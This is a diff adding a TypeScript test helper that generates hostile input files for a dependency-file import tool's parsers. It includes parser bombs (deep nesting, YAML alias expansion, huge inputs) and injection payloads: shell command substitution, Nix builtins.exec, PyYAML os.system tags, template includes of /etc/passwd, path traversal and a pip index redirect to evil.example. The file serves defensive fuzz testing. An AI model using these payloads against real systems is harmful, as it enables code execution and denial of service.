@@ -1,0 +1,274 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { ImportFormatId, TextFile } from '../../../preload/contract';
+import { givenFile } from '../../../preload/given-file';
+import { seeds } from './seeds';
+import { hostileZips } from './zips';
+
+/** A file of somebody who means no good. */
+export interface HostileFile {
+  /** What it tries, for the report of a test. */
+  readonly what: string;
+  readonly file: TextFile;
+}
+
+const realFiles = join(import.meta.dirname, '../../fixtures/real-files');
+
+/** The same numbers from 0 to below 1 each time (mulberry32). */
+function createRandom(seed: number): () => number {
+  let state = seed;
+  return () => {
+    state = (state + 0x6d2b79f5) | 0;
+    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
+    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
+    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
+  };
+}
+
+/**
+ * So many files, the same each time: what would take down a parser, archives, real files that are cut and in other encodings,
+ * and for the rest injections into fields of every format. Whatever of it is run makes the file `marker`, an absolute path
+ * without blanks.
+ */
+export function hostileFiles(marker: string, count = 500): HostileFile[] {
+  const random = createRandom(5);
+  const fixed = [...greedy(), ...archives(), ...cut(random), ...encoded()];
+  const injected = shuffled(injections(marker), random);
+  // What Nix could run is tried in every field of the kinds that become Nix, the rest as chance has it.
+  const forNix = injected.filter(({ file }) => /"kind": "nix-/.test(file.text) && file.text.includes('builtins.exec'));
+  const others = injected.filter((one) => !forNix.includes(one));
+  return [...fixed, ...forNix, ...others].slice(0, count);
+}
+
+function shuffled<T>(items: readonly T[], random: () => number): T[] {
+  return items
+    .map((item) => ({ item, at: random() }))
+    .sort((a, b) => a.at - b.at)
+    .map(({ item }) => item);
+}
+
+const text = (what: string, content: string, fileName = 'file'): HostileFile => ({
+  what,
+  file: { fileName, text: content },
+});
+
+const depth = 20_000;
+const mega = 1024 * 1024;
+const yaml = (value: string) => `name: a\nchannels: [c]\ndependencies:\n  - python\n  - ${value}\n`;
+
+/** Texts that make a parser deep, slow or large. */
+function greedy(): HostileFile[] {
+  const opening = [
+    '[',
+    '{',
+    '(',
+    '[[',
+    '{a: ',
+    '{"a":',
+    '[{"a":',
+    '- ',
+    '? ',
+    '!!seq [',
+    '&a [',
+    '> ',
+    '"',
+    "'",
+    '${',
+    "''${",
+    'a.',
+  ];
+  const deep = opening.flatMap((open) => [
+    text(`deep ${open}`, open.repeat(depth)),
+    text(`deep ${open} in YAML`, yaml(open.repeat(depth))),
+  ]);
+  const indented = Array.from({ length: 3000 }, (_, level) => `${' '.repeat(level)}a:`).join('\n');
+  const bomb = ['a: &a0 [x, x]'].concat(
+    Array.from({ length: 60 }, (_, at) => `k${at}: &a${at + 1} [*a${at}, *a${at}]`),
+  );
+  const merged = Array.from({ length: 2000 }, (_, at) => `k${at}: {<<: *x}`).join('\n');
+  const toml = '[project]\nname = "a"\ndependencies = ["six"]\n';
+  const long = [
+    ' ',
+    '\t',
+    '\n',
+    'a',
+    '0',
+    '=',
+    '-',
+    '\\\n',
+    '#',
+    '"',
+    'a-',
+    'é',
+    '[a]\n',
+    '\r',
+    ';',
+    '@',
+    '<',
+    '~=1,',
+    '*',
+  ];
+  return [
+    ...deep,
+    text('indented YAML', `dependencies:\n${indented}`),
+    text('aliases that repeat each other', `${bomb.join('\n')}\ndependencies: *a60\n`),
+    text('an alias in itself', 'dependencies: &a [*a]\n'),
+    text('merges', `x: &x {a: 1}\n${merged}\ndependencies: [a]\n`),
+    text('many anchors', `dependencies:\n${Array.from({ length: 30_000 }, (_, at) => `- &a${at} p${at}`).join('\n')}`),
+    text('many keys', `dependencies: [a]\n${Array.from({ length: 30_000 }, (_, at) => `k${at}: v`).join('\n')}`),
+    text('many packages', `dependencies:\n${Array.from({ length: 60_000 }, (_, at) => `- p${at}=1`).join('\n')}`),
+    text('the same package', `dependencies:\n${'- six\n'.repeat(90_000)}`),
+    text('deep TOML array', `${toml}x = ${'['.repeat(depth)}${']'.repeat(depth)}`),
+    text('deep TOML table', `${toml}x = ${'{a='.repeat(depth)}1${'}'.repeat(depth)}`),
+    text('dotted TOML key', `${toml}${'a.'.repeat(depth)}a = 1`),
+    text('dotted TOML header', `${toml}[${'a.'.repeat(depth)}a]\nb = 1`),
+    text('many TOML tables', `${toml}${Array.from({ length: 30_000 }, (_, at) => `[t${at}]\na=1`).join('\n')}`),
+    text(
+      'deep INI',
+      `[options]\ninstall_requires =\n${Array.from({ length: 3000 }, (_, at) => `${' '.repeat(at)}a`).join('\n')}`,
+    ),
+    text('INI that stands for itself', '[options]\na = %(b)s\nb = %(a)s\ninstall_requires = %(a)s\n'),
+    text('deep marker', `six; ${'('.repeat(depth)}python_version > "3"${')'.repeat(depth)}`),
+    text('deep extras', `six${'['.repeat(depth)}`),
+    text(
+      'deep JSON export',
+      `{"format": "cloche-environment", "schema": 1, "x": ${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`,
+    ),
+    text(
+      'JSON of many keys',
+      `{"format": "cloche-environment", ${Array.from({ length: 60_000 }, (_, at) => `"k${at}":1`).join()}}`,
+    ),
+    text(
+      'deep Nix',
+      `{ pkgs ? import <nixpkgs> { } }: pkgs.mkShell { a = ${'('.repeat(depth)}1${')'.repeat(depth)}; }`,
+    ),
+    text('includes itself', '-r file\nsix\n'),
+    ...long.slice(0, 8).map((part) => text(`5 MiB of ${JSON.stringify(part)}`, part.repeat((5 * mega) / part.length))),
+    ...long.flatMap((part) => [
+      text(`almost 1 MiB of ${JSON.stringify(part)}`, part.repeat(Math.floor((mega - 100) / part.length))),
+      text(`a long entry of ${JSON.stringify(part)} in YAML`, yaml(JSON.stringify(part.repeat(200_000)))),
+    ]),
+    text(
+      '4 MiB that says that it is a lock',
+      `{"_meta": {}, "default": {${`"a": {"version": "==1"},`.repeat(170_000)}"b": {}}}`,
+    ),
+  ];
+}
+
+function archives(): HostileFile[] {
+  return hostileZips().map(([what, bytes]) => ({
+    what: `archive: ${what}`,
+    file: { ...givenFile('demo.cloche.zip', bytes), text: bytes.toString('base64'), encoding: 'base64' as const },
+  }));
+}
+
+/** Every real file, cut at two places. */
+function cut(random: () => number): HostileFile[] {
+  const names = readdirSync(realFiles).sort();
+  return names.flatMap((name) => {
+    const bytes = readFileSync(join(realFiles, name));
+    return [0.2, 0.9].map((share): HostileFile => {
+      const end = Math.floor(bytes.length * Math.min(1, share + random() * 0.1));
+      return { what: `${name} cut at ${end}`, file: givenFile(name, bytes.subarray(0, end)) };
+    });
+  });
+}
+
+/** A seed of each format as bytes of other encodings. */
+function encoded(): HostileFile[] {
+  const all = Object.entries(seeds).flatMap(([id, [seed]]) =>
+    seed === undefined ? [] : [{ id, plain: filled(seed, () => 'x') }],
+  );
+  const swapped = (content: string) => Buffer.from(content, 'utf16le').swap16();
+  return all.flatMap(({ id, plain }) =>
+    Object.entries({
+      'UTF-16 with a mark': Buffer.from(`\ufeff${plain}`, 'utf16le'),
+      'UTF-16, the other way round': swapped(`\ufeff${plain}`),
+      'UTF-16 without a mark': Buffer.from(plain, 'utf16le'),
+      'bytes that are no text': Buffer.concat([
+        Buffer.from(plain.slice(0, 20)),
+        Buffer.from([0xff, 0xc0, 0x80, 0xed, 0xa0, 0x80]),
+        Buffer.from(plain.slice(20)),
+      ]),
+    }).map(([how, bytes]): HostileFile => ({ what: `${id} in ${how}`, file: givenFile('file', bytes) })),
+  );
+}
+
+/** What is written into fields. */
+function payloads(marker: string): string[] {
+  const touch = `touch ${marker}`;
+  const exec = `builtins.exec [ "touch" "${marker}" ]`;
+  return [
+    `$(${touch})`,
+    `\`${touch}\``,
+    `; ${touch} #`,
+    `| ${touch}`,
+    `'; ${touch}; '`,
+    `"; ${touch}; "`,
+    `x\n${touch}\n`,
+    `x\r\nRUN ${touch}\r\n`,
+    `\${${exec}}`,
+    `''\${${exec}}''`,
+    `"\${${exec}}"`,
+    `"; x = ${exec}; y = "`,
+    `''; x = ${exec}; y = ''`,
+    `x" (${exec}) "y`,
+    `*/ ${exec} /*`,
+    `\\" \${${exec}} \\"`,
+    `!!python/object/apply:os.system ["${touch}"]`,
+    `__import__("os").system("${touch}")`,
+    `{{ "".__class__ }}{% include "/etc/passwd" %}%(x)s`,
+    '__proto__',
+    'constructor',
+    '--index-url=https://evil.example/simple',
+    '-r/etc/passwd',
+    '-e .',
+    '--install-option=x',
+    '../../../../../../tmp/x',
+    '\u0000',
+    '\u001b]0;title\u0007\u001b[31mred\u001b[2J',
+    'abc\u202ednuof\u2066\u200b',
+    '\ud800',
+    'https://user:secret@evil.example/?token=secret',
+    ' ',
+    'x'.repeat(100_000),
+  ];
+}
+
+const field = /@[A-Z]+@/g;
+
+/** A seed with its fields filled; `@EXPLICIT` has no end and is none. */
+function filled(seed: string, fill: (name: string) => string): string {
+  return seed.replace(field, (name, at: number) => {
+    const value = fill(name);
+    const before = seed.slice(seed.lastIndexOf('\n', at) + 1, at);
+    const isQuoted = (before.match(/"/g)?.length ?? 0) % 2 === 1;
+    return isQuoted ? JSON.stringify(value).slice(1, -1) : value;
+  });
+}
+
+/** What stands in the fields that are not attacked, so that the file is one that is read. */
+const usual: Readonly<Record<string, string>> = {
+  '@PYTHON@': '3.12',
+  '@VERSION@': '1.0',
+  '@MARKER@': 'python_version > "3"',
+  '@HASH@': 'a'.repeat(64),
+  '@PIN@': '',
+  '@ADDRESS@': '',
+  '@CHANNEL@': 'conda-forge',
+  '@SOURCE@': 'https://files.example/six.whl',
+  '@LIMIT@': 'six<2',
+};
+
+function injections(marker: string): HostileFile[] {
+  return (Object.entries(seeds) as [ImportFormatId, readonly string[]][]).flatMap(([id, ofFormat]) =>
+    ofFormat.flatMap((seed) =>
+      [...new Set(seed.match(field))].flatMap((attacked) =>
+        payloads(marker).map((payload, index) => {
+          const content = filled(seed, (name) => (name === attacked ? payload : (usual[name] ?? 'x')));
+          return text(`${id} ${attacked} ${index}: ${JSON.stringify(payload).slice(0, 60)}`, content, `/srv/${id}`);
+        }),
+      ),
+    ),
+  );
+}
